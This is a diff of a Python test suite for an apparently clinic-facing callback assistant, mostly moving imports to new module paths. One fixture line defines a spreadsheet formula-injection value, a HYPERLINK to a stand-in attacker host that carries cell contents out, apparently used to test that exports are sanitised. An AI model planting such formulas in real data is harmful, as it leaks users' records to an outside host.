@@ -16,12 +16,12 @@ from typing import List
 
 import pytest
 
-from assistant import requests_cli
-from assistant.callbacks import Base, CallbackDraft, CallbackStore
-from assistant.clinic import ClinicConfigError, parse_clinic
-from assistant.knowledge import PROJECT_ROOT
-from assistant.rate_limits import Limiter, RateLimits, parse_rate_limits
-from assistant.sqlite_hygiene import use_wal
+from assistant.callback_requests import cli as requests_cli
+from assistant.callback_requests.store import Base, CallbackDraft, CallbackStore
+from assistant.paths import PROJECT_ROOT
+from assistant.rasa_server.rate_limits import Limiter, RateLimits, parse_rate_limits
+from assistant.settings.clinic import ClinicConfigError, parse_clinic
+from assistant.shared.sqlite_hygiene import use_wal
 
 HOSTILE = {
     "name": "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
@@ -149,7 +149,7 @@ def test_a_forgotten_conversation_is_gone_from_tracker_db_and_its_wal(tmp_path: 
     import json
     import time
 
-    from assistant.tracker_store import PrivacySQLTrackerStore
+    from assistant.rasa_server.tracker_store import PrivacySQLTrackerStore
 
     path = tmp_path / "tracker.db"
     store = PrivacySQLTrackerStore(dialect="sqlite", db=str(path))
@@ -185,7 +185,7 @@ def test_processes_opening_a_new_database_together_all_get_wal(tmp_path: Path) -
         path = tmp_path / f"race-{trial}.db"
         start = threading.Barrier(4)
 
-        def open_and_write() -> str:
+        def open_and_write(start: threading.Barrier = start, path: Path = path) -> str:
             start.wait()
             connection = sqlite3.connect(path, timeout=30, isolation_level=None)
             use_wal(connection)
@@ -234,7 +234,7 @@ def test_sqlite_counters_are_shared_by_every_process_of_one_server(tmp_path: Pat
 def test_a_fixed_window_starts_again_when_it_expires(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     import time as real_time
 
-    from assistant import rate_limits
+    from assistant.rasa_server import rate_limits
 
     now = [1_800_000_000.0]
     monkeypatch.setattr(rate_limits.time, "time", lambda: now[0])
@@ -250,7 +250,7 @@ def test_a_fixed_window_starts_again_when_it_expires(tmp_path: Path, monkeypatch
 # ---- file modes ----------------------------------------------------------------------------
 
 def test_secure_directory_tightens_files_an_older_version_left_readable(tmp_path: Path) -> None:
-    from assistant.private_files import make_private_dir, secure_directory
+    from assistant.shared.private_files import make_private_dir, secure_directory
 
     data = tmp_path / "var"
     data.mkdir(mode=0o755)
@@ -265,7 +265,7 @@ def test_secure_directory_tightens_files_an_older_version_left_readable(tmp_path
 
 def test_the_conversation_secret_is_created_once_private_and_shared(
         tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    from assistant import conversation_token
+    from assistant.rasa_server import conversation_token
 
     monkeypatch.delenv(conversation_token.SECRET_ENV, raising=False)
     monkeypatch.setenv("TRACKER_DB", str(tmp_path / "var" / "tracker.db"))
@@ -288,7 +288,7 @@ def test_the_conversation_secret_is_created_once_private_and_shared(
 
 def test_rasas_warnings_and_log_lines_that_quote_a_message_are_dropped(
         caplog: pytest.LogCaptureFixture) -> None:
-    from assistant.log_privacy import DropMessageText, keep_message_text_out_of_logs
+    from assistant.shared.log_privacy import DropMessageText, keep_message_text_out_of_logs
 
     keep_message_text_out_of_logs()
     with warnings.catch_warnings(record=True) as caught:
